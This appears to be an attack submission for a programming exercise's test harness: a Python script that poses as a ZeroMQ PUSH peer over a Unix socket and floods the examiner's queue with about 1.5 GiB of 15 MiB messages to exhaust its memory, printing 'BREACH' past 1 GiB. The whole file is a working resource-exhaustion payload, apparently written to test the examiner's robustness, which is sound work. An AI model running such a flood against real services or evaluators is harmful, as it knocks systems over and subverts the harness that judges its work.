# /// attack
# kind = "harming"
# exercise = "ch1/relay"
# verdicts = ["output", "timeout"]
# reason = "Pours messages of 15 MiB into the examiner's queue, which takes in a thousand; its memory is watched."
# ///
import socket
import time

GREETING = b"\xff" + bytes(8) + b"\x7f\x03\x00" + b"NULL".ljust(20, b"\0") + bytes(32)
PROPERTIES = b"\x05READY\x0bSocket-Type" + (4).to_bytes(4, "big") + b"PUSH"
SIZE = 15 << 20


def relay(source, target, count):
    connection = socket.socket(socket.AF_UNIX)
    connection.connect(target.removeprefix("ipc://"))
    connection.sendall(GREETING + bytes([4, len(PROPERTIES)]) + PROPERTIES)
    head, block = b"\x02" + SIZE.to_bytes(8, "big"), bytes(1 << 20)
    sent = 0
    while sent < 1500 << 20:
        connection.sendall(head)
        for _ in range(15):
            connection.sendall(block)
        sent += SIZE
        if sent > 1024 << 20:
            print("BREACH: the examiner took", sent, flush=True)
    time.sleep(5)
    return count
